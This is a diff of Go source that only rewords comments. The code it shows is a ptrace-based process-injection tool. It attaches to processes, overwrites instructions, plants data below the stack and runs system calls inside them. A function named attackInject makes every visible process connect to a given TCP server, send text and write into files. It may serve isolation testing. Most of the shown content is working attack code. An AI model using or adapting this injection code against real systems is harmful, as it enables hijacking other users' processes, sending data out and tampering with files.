@@ -9,14 +9,14 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// tracee is a process that the attacker has stopped and whose system calls it chooses.
+// tracee is a process that the attacker has stopped to make system calls in it.
 type tracee struct {
 	pid   int
 	saved registers
-	code  []byte // what stood where the instruction of the call stands now
+	code  []byte // the code that the instruction of the call has replaced
 }
 
-// seize stops a process and makes it a puppet.
+// seize stops a process and takes control of it.
 func seize(pid int) (*tracee, error) {
 	if err := unix.PtraceAttach(pid); err != nil {
 		return nil, fmt.Errorf("attach: %w", err)
@@ -39,7 +39,7 @@ func seize(pid int) (*tracee, error) {
 	return p, nil
 }
 
-// release puts everything back.
+// release restores the process and lets it go.
 func (p *tracee) release() {
 	unix.PtracePokeText(p.pid, programCounter(&p.saved), p.code)
 	setRegisters(p.pid, &p.saved)
@@ -62,10 +62,10 @@ func (p *tracee) await() error {
 	}
 }
 
-// room is where arguments lie: below the stack and what the compiler may keep there.
+// room is where arguments are put: below the stack pointer and the red zone that the compiler may use.
 func (p *tracee) room() uintptr { return stackPointer(&p.saved)&^15 - 1024 }
 
-// put writes bytes into the process, and returns where they are.
+// put writes bytes into the process and returns their address.
 func (p *tracee) put(b []byte) (uintptr, error) {
 	_, err := unix.PtracePokeData(p.pid, p.room(), b)
 	return p.room(), err
@@ -92,7 +92,7 @@ func (p *tracee) call(number uintptr, args ...uintptr) (int, error) {
 	return resultOf(&r), nil
 }
 
-// connect has the process say something to a TCP server.
+// connect makes the process send a text to a TCP server.
 func (p *tracee) connect(server netip.AddrPort, word string) string {
 	sa := unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: server.Addr().As4()}
 	*(*[2]byte)(unsafe.Pointer(&sa.Port)) = [2]byte{byte(server.Port() >> 8), byte(server.Port())}
@@ -112,7 +112,7 @@ func (p *tracee) connect(server netip.AddrPort, word string) string {
 	return p.write(fd, word)
 }
 
-// overwrite has the process write into a file.
+// overwrite makes the process write to a file.
 func (p *tracee) overwrite(path, word string) string {
 	at, err := p.put(append([]byte(path), 0))
 	if err != nil {
@@ -136,7 +136,7 @@ func (p *tracee) write(fd int, word string) string {
 	return fmt.Sprintf("write to descriptor %d: %d, %v", fd, result, err)
 }
 
-// attackInject has every visible process connect to a server and write into files: SERVER FILE…
+// attackInject makes every visible process connect to a server and write to files: SERVER FILE…
 func attackInject(args []string) {
 	server := netip.MustParseAddrPort(args[0])
 	for _, pid := range visible() {
